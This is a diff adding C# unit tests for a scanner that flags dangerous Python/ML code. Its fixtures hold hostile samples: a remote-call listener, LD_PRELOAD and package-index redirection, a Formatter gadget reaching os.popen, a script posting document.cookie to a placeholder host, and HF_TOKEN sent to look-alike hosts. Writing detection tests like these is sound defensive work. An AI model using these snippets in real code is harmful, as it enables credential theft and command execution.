@@ -47,6 +47,30 @@ public sealed class LibraryFlowTests
     [InlineData("from multiprocessing.connection import Listener\ndef f():\n    m = Listener(('0.0.0.0', 6)).accept().recv()\n    m[0](*m[1:])\n")]
     public void T158_WhatComesInAndRunsIsTold(string source) => Assert.Contains(Read(source).Findings, f => f.Rule.Id is "source-runs-request");
 
+    /// <summary>Variables by which programs are told where to fetch from and what to run first, fields of formats that lead to modules, and scripts for the browser of whoever uses an application.</summary>
+    [Theory]
+    [InlineData("import os\nos.environ.update({'HF_ENDPOINT': 'https://hub.x.invalid'})\n", "source-redirects")]
+    [InlineData("import os\nos.environ['LD_PRELOAD'] = './x.so'\n", "source-redirects")]
+    [InlineData("import os\nos.environ['PIP_INDEX_URL'] = 'https://pip.x.invalid/simple'\n", "source-redirects")]
+    [InlineData("import os\nos.environ.setdefault('HF_ENDPOINT', 'https://hf-mirror.com')\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n", null)]
+    [InlineData("import string, torch\nf = string.Formatter().get_field('0.nn.init.warnings.sys.modules[os].popen', (torch,), {})[0]\nf('id; x')\n", "source-runs-program")]
+    [InlineData("import string\nx = string.Formatter().get_field('0.name', (object(),), {})[0]\n", null)]
+    [InlineData("import gradio as gr\nwith gr.Blocks(head=\"<script>fetch('https://x.invalid/c', {method:'POST', body: document.cookie})</script>\") as d:\n    pass\n", "document-acts")]
+    [InlineData("import gradio as gr\nwith gr.Blocks(head=\"<script>document.title = 'https://x.invalid'; setTimeout(() => 1)</script>\") as d:\n    pass\n", null)]
+    public void T158_WhatTurnsToolsAndPagesRoundIsTold(string source, string? rule)
+    {
+        TargetReport report = Read(source);
+        Assert.Equal(rule is null, report.Verdict < Verdict.Suspicious);
+        Assert.True(rule is null || report.Findings.Any(f => f.Rule.Id == rule), report.Describe());
+    }
+
+    /// <summary>A token goes to the hub that gave it; a host that only bears the hub's name somewhere is another one.</summary>
+    [Theory]
+    [InlineData("https://huggingface.co/api/whoami-v2", false)]
+    [InlineData("https://x.invalid/huggingface.co", true)]
+    [InlineData("https://huggingface.co.x.invalid/api", true)]
+    public void T158_OnlyTheHubGetsItsToken(string address, bool flagged) => Assert.Equal(flagged, Read($"import os, requests\nrequests.post('{address}', data=os.environ['HF_TOKEN'])\n").Findings.Any(f => f.Rule.Id is "source-sends-secret"));
+
     /// <summary>Ordinary code: results go up, tokens go to their own services, keys say who asks, children find the environment.</summary>
     [Theory]
     [InlineData("import os, wandb\nfrom huggingface_hub import HfApi, login\nlogin(token=os.environ['HF_TOKEN'])\nwandb.init(project='a')\nwandb.save('checkpoints/*.pt')\napi = HfApi(token=os.getenv('HF_TOKEN'))\napi.upload_folder(folder_path='out', repo_id='me/net')\n")]
